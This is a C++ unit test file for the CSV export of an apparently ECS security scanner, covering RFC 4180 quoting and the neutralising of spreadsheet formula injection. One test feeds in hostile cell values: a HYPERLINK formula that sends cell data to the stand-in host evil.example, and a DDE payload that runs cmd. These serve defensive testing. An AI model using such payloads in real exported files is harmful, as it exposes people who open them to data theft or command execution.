#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "report/report.h"
#include "sample.h"

namespace ecsguard::report {
namespace {

using Rows = std::vector<std::vector<std::string>>;

// A strict RFC 4180 reader: records end in CRLF; a quoted field may hold anything, with quotes
// doubled. Fails the test on anything else.
Rows ParseCsv(const std::string& text) {
  Rows rows;
  std::vector<std::string> row;
  std::string field;
  size_t i = 0;
  while (i < text.size()) {
    if (text[i] == '"') {
      ++i;
      while (true) {
        if (i >= text.size()) {
          ADD_FAILURE() << "unterminated quoted field";
          return rows;
        }
        if (text[i] == '"') {
          if (i + 1 < text.size() && text[i + 1] == '"') {
            field += '"';
            i += 2;
            continue;
          }
          ++i;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.size() && text[i] != ',' && text[i] != '\r') {
        if (text[i] == '"' || text[i] == '\n') {
          ADD_FAILURE() << "bare quote or LF at byte " << i;
          return rows;
        }
        field += text[i++];
      }
    }
    row.push_back(std::move(field));
    field.clear();
    if (i < text.size() && text[i] == ',') {
      ++i;
    } else if (text.compare(i, 2, "\r\n") == 0) {
      i += 2;
      rows.push_back(std::move(row));
      row.clear();
    } else {
      ADD_FAILURE() << "expected , or CRLF at byte " << i;
      return rows;
    }
  }
  EXPECT_TRUE(row.empty()) << "last record has no CRLF";
  return rows;
}

TEST(CsvReportTest, HeaderAndRows) {
  std::string text = RenderCsv(testing::LiveScan());
  Rows rows = ParseCsv(text);
  ASSERT_EQ(rows.size(), 7u);  // header + 6 records
  const std::vector<std::string> header = {"finding_id",
                                           "status",
                                           "severity",
                                           "priority",
                                           "control_id",
                                           "control_title",
                                           "resource_type",
                                           "resource_id",
                                           "resource_arn",
                                           "resource_name",
                                           "account_id",
                                           "region",
                                           "family",
                                           "revision",
                                           "resource_status",
                                           "file",
                                           "line",
                                           "column",
                                           "evidence",
                                           "reason",
                                           "exposure",
                                           "exposure_reasons",
                                           "environment",
                                           "tasks",
                                           "services",
                                           "clusters",
                                           "exception_id",
                                           "exception_owner",
                                           "exception_expires",
                                           "exception_reason",
                                           "exception_ticket",
                                           "scan_time",
                                           "priority_context"};
  EXPECT_EQ(rows[0], header);
  for (const auto& row : rows) EXPECT_EQ(row.size(), header.size());
  const auto& web = rows[1];
  EXPECT_EQ(web[1], "FAIL");
  EXPECT_EQ(web[2], "high");
  EXPECT_EQ(web[3], "P1");
  EXPECT_EQ(web[8], "arn:aws:ecs:eu-west-1:111111111111:task-definition/web:3");
  EXPECT_EQ(web[9], "web:3");
  EXPECT_EQ(web[13], "3");
  EXPECT_EQ(web[18], "container app: privileged=true, user=\"root\"");
  EXPECT_EQ(web[21], "internet-facing load balancer web-alb");
  EXPECT_EQ(web[22], "production");
  EXPECT_EQ(web[31], "2026-11-28T10:00:05Z");
  const auto& excepted = rows[4];
  EXPECT_EQ(excepted[1], "EXCEPTED");
  EXPECT_EQ(excepted[26], "EX-7");
  EXPECT_EQ(excepted[27], "platform-team");
  EXPECT_EQ(excepted[28], "2026-12-10");
  EXPECT_EQ(rows[6][19], "in use by running task 77 but not described in the snapshot");

  Rows iac = ParseCsv(RenderCsv(testing::IacScan()));
  EXPECT_EQ(iac[1][15], "infra/web.yaml");
  EXPECT_EQ(iac[1][16], "20");
  EXPECT_EQ(iac[1][17], "11");
}

TEST(CsvReportTest, QuotesAndLineBreaks) {
  posture::ScanResult scan = testing::LiveScan();
  scan.findings[0].reason = "a, \"quoted\" reason\nover two lines\r\nand CR";
  std::string text = RenderCsv(scan);
  EXPECT_NE(text.find("\"a, \"\"quoted\"\" reason\nover two lines\r\nand CR\""), std::string::npos);
  Rows rows = ParseCsv(text);
  ASSERT_EQ(rows.size(), 7u);
  EXPECT_EQ(rows[1][19], "a, \"quoted\" reason\nover two lines\r\nand CR");
}

TEST(CsvReportTest, FormulaInjectionIsNeutralised) {
  posture::ScanResult scan = testing::LiveScan();
  posture::Finding& f = scan.findings[0];
  f.resource.name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
  f.resource.family = "+cmd|' /C calc'!A0";
  f.reason = "-2+3";
  f.control_title = "@SUM(1,1)";
  f.context.environment = "\tprod";
  f.context.exposure_reasons = {"\r=1"};
  Rows rows = ParseCsv(RenderCsv(scan));
  ASSERT_EQ(rows.size(), 7u);
  EXPECT_EQ(rows[1][9], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
  EXPECT_EQ(rows[1][12], "'+cmd|' /C calc'!A0");
  EXPECT_EQ(rows[1][19], "'-2+3");
  EXPECT_EQ(rows[1][5], "'@SUM(1,1)");
  EXPECT_EQ(rows[1][22], "'\tprod");
  EXPECT_EQ(rows[1][21], "'\r=1");
  for (const auto& row : rows) {
    for (const std::string& cell : row) {
      EXPECT_TRUE(cell.empty() || std::string_view("=+-@\t\r").find(cell[0]) == std::string::npos)
          << cell;
    }
  }
}

}  // namespace
}  // namespace ecsguard::report
